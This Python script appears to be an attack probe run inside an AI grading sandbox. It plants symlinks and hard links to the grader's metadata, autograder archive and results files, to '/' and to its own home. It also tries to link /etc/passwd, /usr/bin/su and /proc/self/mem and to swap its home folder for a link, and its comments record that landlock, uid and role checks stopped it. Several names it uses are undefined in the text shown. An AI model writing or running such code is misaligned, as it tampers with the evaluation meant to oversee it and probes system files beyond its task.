"""Fills its home with links to the grader's files, under the names of its own, and puts a link in the place of the home
itself, in the hope that the grader follows one when it reads, clears or measures that folder."""
# shows: raised Ran: [1-9]\d* links, .*PermissionError.*, home (\w*Error ?)+
# tried: file
# stopped by: landlock, uid, roles

# %% first
import os

home = os.getcwd()
TARGETS = {
    "data.npz": f"{STAGE}/submission_metadata.json",
    "fixtures.npz": f"{STAGE}/source/autograder.zip",
    "cnnchecks": f"{STAGE}/results/results.json",
    "results.json": f"{STAGE}/results/{ATTACK}/results.json",
    "my_lenet.weights.h5": f"{STAGE}/submission_metadata.json",
    "everything": "/",
    "results": f"{STAGE}/results",
    "drop": DROP,
    "itself": home,
    "loop": "loop",
}
made, came = 0, []

# %% last
for name, target in TARGETS.items():
    for make in (os.symlink, os.link):
        for place in (name, f"{make.__name__}-{name}"):
            try:
                if place in ("data.npz", "fixtures.npz", "cnnchecks"):
                    attempt(os.rename, place, f"mine-{place}")
                make(target, place)
                made += 1
            except OSError as error:
                came.append(type(error).__name__)
for path in ("/etc/passwd", "/usr/bin/su", "/proc/self/mem", f"{STAGE}/results/results.json"):
    came.append(attempt(os.link, path, f"hard-{os.path.basename(path)}"))
moved = [
    attempt(os.rename, home, f"{home}-mine"),
    attempt(os.rmdir, home),
    attempt(os.symlink, DROP, home),
    attempt(os.symlink, STAGE, f"{os.path.dirname(home)}/tmpabcdefg"),
]
os.chmod(home, 0) if os.getuid() else None
say(f"{made} links, {' '.join(sorted(set(came)))}, home {' '.join(moved)}")
